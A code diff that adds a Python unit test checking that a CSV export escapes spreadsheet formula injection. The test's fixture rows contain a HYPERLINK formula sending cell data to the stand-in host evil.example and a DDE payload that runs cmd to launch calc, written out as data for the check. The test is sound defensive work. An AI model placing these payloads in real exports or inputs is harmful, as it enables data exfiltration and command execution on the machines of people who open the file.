@@ -145,3 +145,20 @@ def test_what_if_view() -> None:
     assert partial.table.rows[0][2] is None
     assert views.what_if_view(estimates, 0.0, 3).actual_text == "unknown"
     assert views.what_if_view(estimates, 0.0, 0).actual_text == "$0.00"
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula() -> None:
+    # A display name or model label chosen by someone else must not run when an admin
+    # opens the downloaded CSV in Excel or Sheets; numbers (also negative) stay numbers.
+    table = views.ChartTable(
+        ("user", "note", "difference_usd", "text_number"),
+        [
+            ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", -0.25, "-12.5"),
+            ("@SUM(A1:A9)", "\tcell", 0.5, None),
+            ("Alice", "plain", 1, "3"),
+        ],
+    )
+    rows = list(csv.reader(io.StringIO(table.to_csv())))
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|' /C calc'!A0", "-0.25", "-12.5"]
+    assert rows[2] == ["'@SUM(A1:A9)", "'\tcell", "0.5", ""]
+    assert rows[3] == ["Alice", "plain", "1", "3"]
